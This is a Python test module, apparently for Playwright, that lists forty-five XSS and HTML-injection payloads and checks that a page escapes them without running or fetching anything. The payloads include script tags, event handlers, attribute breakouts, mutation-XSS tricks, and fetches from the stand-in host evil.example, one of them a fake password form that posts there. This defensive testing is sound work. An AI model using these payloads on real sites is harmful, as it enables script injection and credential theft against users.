"""Forty-five texts that would do something in a page that did not escape them.

What runs calls `hit`; what is fetched is fetched from evil.example.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from playwright.sync_api import Page

EVIL = "http://evil.example"

PAYLOADS = (
    # scripts
    "<script>hit(1)</script>",
    f"<script src='{EVIL}/2.js'></script>",
    "</script><script>hit(3)</script>",
    "</textarea></title></style><script>hit(4)</script>",
    "<scr<script>ipt>hit(5)</scr</script>ipt>",
    # handlers that need nobody
    "<img src=x onerror=hit(6)>",
    "<svg onload=hit(7)></svg>",
    "<body onload=hit(8) onpageshow=hit(8)>",
    "<details open ontoggle=hit(9)>more</details>",
    "<input autofocus onfocus=hit(10)>",
    "<video><source onerror=hit(11)></video>",
    "<div style='animation:x 1s' onanimationstart=hit(12)>x</div>",
    # handlers that need a pointer
    "<a href='javascript:hit(13)'>press here</a>",
    "[press here](javascript:hit(14))",
    "<button onclick=hit(15)>press here</button>",
    "<p onmouseover=hit(16) style='position:fixed;inset:0'>over all</p>",
    # out of an attribute
    '" onmouseover=hit(17) autofocus onfocus=hit(17) x="',
    "' onfocus=hit(18) autofocus tabindex=1 x='",
    '"><img src=x onerror=hit(19)>',
    "` onerror=hit(20) `",
    # entities and foreign parsers
    "&lt;img src=x onerror=hit(21)&gt;",
    "&#60;script&#62;hit(22)&#60;/script&#62;",
    '<noscript><p title="</noscript><img src=x onerror=hit(23)>">',
    '<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=hit(24)>">',
    "<svg><style><img src=x onerror=hit(25)></style></svg>",
    "<template><img src=x onerror=hit(26)></template><!--><img src=x onerror=hit(26)>-->",
    # templates, formulas, drawings
    "{{constructor.constructor('hit(27)')()}} {{{value}}} {{#each value}}x{{/each}}",
    "${hit(28)} #{hit(28)} <%= hit(28) %>",
    "$$\\href{javascript:hit(29)}{x}$$ \\(\\includegraphics{http://evil.example/29.png}\\)",
    '```mermaid\ngraph TD; A[<img src=x onerror=hit(30)>] --> B; click A href "javascript:hit(30)"\n```',
    # what is fetched
    f"![picture]({EVIL}/31.png)",
    f"![picture][ref31] [ref31]: {EVIL}/31b.png",
    f"<img src={EVIL}/33.png srcset='{EVIL}/33b.png 2x'>",
    f"<link rel=stylesheet href={EVIL}/34.css><link rel=prefetch href={EVIL}/34>",
    f"<style>@import '{EVIL}/35.css'; body {{ background: url({EVIL}/35.png) }}</style>",
    f"<p style='background:url({EVIL}/36.png)'>x</p>",
    f"<audio autoplay src={EVIL}/37.ogg></audio><video poster={EVIL}/37.png></video>",
    f"<iframe src={EVIL}/38></iframe><iframe srcdoc='<script>parent.hit(38)</script>'></iframe>",
    f"<object data={EVIL}/39></object><embed src={EVIL}/39>",
    f"<svg><image href={EVIL}/40.png /><use href={EVIL}/40.svg#x /></svg>",
    # what takes over
    f"<meta http-equiv=refresh content='0;url={EVIL}/41'>",
    f"<base href={EVIL}/><form action={EVIL}/42><input name=password><button>Log in</button></form>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Session over. Log in again.</div>",
    f"<dialog open>Update needed: <a href={EVIL}/44>here</a></dialog> www.evil.example {EVIL}/44",
    "<style>*{display:none!important}</style><plaintext>",
)

# What no text may have made: elements that run or fetch, handlers, links that lead away.
FOREIGN = """() => {
    const inside = [...document.querySelectorAll('#page *')];
    const kinds = 'script,img,iframe,object,embed,link,meta,base,audio,video,dialog,math,template,plaintext';
    const made = inside.filter(each => each.matches(kinds));
    const armed = inside.filter(each => [...each.attributes].some(one => one.name.startsWith('on')));
    const away = inside.filter(each => /^(?!#)/.test(each.getAttribute('href') ?? '#'));
    const styled = inside.filter(each => /evil|99999|inset/.test(each.getAttribute('style') ?? ''));
    return [...made, ...armed, ...away, ...styled].map(each => each.outerHTML.slice(0, 200));
}"""


@contextmanager
def trap(page: Page) -> Iterator[None]:
    """Catches what runs in the page, opens a window, or is fetched from where the payloads point."""
    caught: list[str] = []
    page.expose_function("hit", lambda number: caught.append(f"payload {number} ran"))
    page.on("dialog", lambda dialog: (caught.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda _: caught.append("a window opened"))
    page.context.on("request", lambda request: "evil" in request.url and caught.append(request.url))
    yield
    assert caught == []
    assert page.evaluate(FOREIGN) == []
